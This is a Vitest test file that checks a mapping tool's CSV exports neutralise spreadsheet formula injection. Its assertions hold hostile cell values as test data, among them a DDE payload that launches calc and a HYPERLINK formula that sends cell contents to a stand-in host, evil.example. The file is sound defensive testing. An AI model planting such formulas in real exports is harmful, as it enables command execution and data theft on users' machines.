// CSV formula injection (issue 16, point 5): every CSV writer goes through the one cell writer, which neutralises
// text that a spreadsheet would run as a formula (OWASP: a leading ') and leaves numbers numbers.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FeatureCollection } from 'geojson';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { formatCsvCell } from '../../../src/domain/export/formatCsvCell.ts';
import { exportCsv } from '../../../src/domain/export/exportCsv.ts';
import { rankingToCsv } from '../../../src/ui/scoring/rankingToCsv.ts';
import { progressReportToCsv } from '../../../src/domain/targets/progressReportToCsv.ts';
import { command as auditCommand } from '../../../scripts/cli/audit.ts';
import { command as reprojectCommand } from '../../../scripts/cli/reproject.ts';
import { buildTargetsReport } from '../../../scripts/cli/targets.ts';

const FIXTURE = 'test/fixtures/hostile/formula-cells.geojson';
const fc = JSON.parse(readFileSync(FIXTURE, 'utf8')) as FeatureCollection;

/** The cells of a CSV line as a spreadsheet reads them (RFC 4180). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') cell += line[i++];
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      out.push(cell);
      cell = '';
    } else cell += c;
  }
  return [...out, cell];
}

/** Every cell of a CSV text (records split on CRLF outside quotes). */
function allCells(csv: string): string[] {
  const records: string[] = [];
  let at = 0;
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  for (let i = 0; i < text.length; i++) {
    if (text[i] === '"') quoted = !quoted;
    else if (!quoted && text[i] === '\r' && text[i + 1] === '\n') {
      records.push(text.slice(at, i));
      at = ++i + 1;
    }
  }
  return records.flatMap(cells);
}

/** No cell a spreadsheet would run: none starts with = + - @ tab or CR, unless it is a plain number. */
function expectNoFormula(csv: string): void {
  const dangerous = allCells(csv).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?[\d.]+(e[+-]?\d+)?$/i.test(c));
  expect(dangerous).toEqual([]);
}

describe('formatCsvCell', () => {
  it('prefixes text that would run as a formula, quotes what RFC 4180 needs, keeps numbers numbers', () => {
    expect(formatCsvCell('=1+2')).toBe("'=1+2");
    expect(formatCsvCell('+84 905 123 456')).toBe("'+84 905 123 456");
    expect(formatCsvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(formatCsvCell('-2+3')).toBe("'-2+3");
    expect(formatCsvCell('\t=1+1')).toBe("'\t=1+1");
    expect(formatCsvCell('\r=1+1')).toBe("\"'\r=1+1\"");
    expect(formatCsvCell('=HYPERLINK("x","y")')).toBe('"\'=HYPERLINK(""x"",""y"")"');
    expect(formatCsvCell(-12.5)).toBe('-12.5');
    expect(formatCsvCell('-12.5')).toBe('-12.5');
    expect(formatCsvCell('+84')).toBe('+84');
    expect(formatCsvCell('Thửa 12, Tịnh Phong')).toBe('"Thửa 12, Tịnh Phong"');
    expect(formatCsvCell(null)).toBe('');
  });
});

describe('every CSV writer neutralises formulas', () => {
  afterEach(() => vi.restoreAllMocks());

  it('the layer export (app and CLI)', () => {
    const csv = exportCsv(fc);
    expectNoFormula(csv);
    const c = allCells(csv);
    expect(c).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(c).toContain("'\t=1+1");
    // The number column is still numbers, the negative one included.
    expect(c).toContain('-12.5');
    expect(c).not.toContain("'-12.5");
  });

  it('the ranking', () => {
    const rows = fc.features.slice(0, 2).map((f, i) => ({
      index: i, rank: i + 1, id: String(f.properties!.id), name: String(f.properties!.name), commune: { code: '+1', name: '=cmd' },
      score: -12.5, areaM2: 100, exclusion: null, warning: null, pTopK: null, rankMin: null, rankMax: null,
    }));
    const csv = rankingToCsv(rows, 'vi', false);
    expectNoFormula(csv);
    expect(allCells(csv)).toContain("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")");
  });

  it('the audit table (noxh audit --csv, the same function the app downloads)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'noxh-csv-'));
    vi.spyOn(console, 'log').mockImplementation(() => {});
    expect(await auditCommand.run(['--projects', FIXTURE, '--out', join(dir, 'r.json'), '--csv', join(dir, 'r.csv')])).toBe(0);
    const csv = readFileSync(join(dir, 'r.csv'), 'utf8');
    expectNoFormula(csv);
    expect(allCells(csv)).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")');
  });

  it('noxh reproject --out .csv', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'noxh-csv-'));
    vi.spyOn(console, 'log').mockImplementation(() => {});
    vi.spyOn(console, 'error').mockImplementation(() => {});
    expect(await reprojectCommand.run(['--from', 'wgs84', '--to', 'wgs84', FIXTURE, '--out', join(dir, 'r.csv')])).toBe(0);
    const csv = readFileSync(join(dir, 'r.csv'), 'utf8');
    expectNoFormula(csv);
    expect(allCells(csv)).toContain("'+84 905 123 456");
  });

  it('the targets report (commune names from a file)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'noxh-csv-'));
    const square = { type: 'Polygon', coordinates: [[[108.7, 15], [108.9, 15], [108.9, 15.2], [108.7, 15.2], [108.7, 15]]] };
    const communes = { type: 'FeatureCollection', features: [{ type: 'Feature', properties: { commune_code: '-1+1', commune_name: '=cmd|\' /C calc\'!A0' }, geometry: square }] };
    writeFileSync(join(dir, 'communes.geojson'), JSON.stringify(communes));
    writeFileSync(join(dir, 'p.geojson'), JSON.stringify({ type: 'FeatureCollection', features: [] }));
    const { report } = buildTargetsReport(['--projects', join(dir, 'p.geojson'), '--communes', join(dir, 'communes.geojson'), '--out', join(dir, 'x.json')], 2026);
    const csv = progressReportToCsv(report, { date: '05/12/2026' });
    expectNoFormula(csv);
    expect(allCells(csv)).toContain("'=cmd|' /C calc'!A0");
  });
});
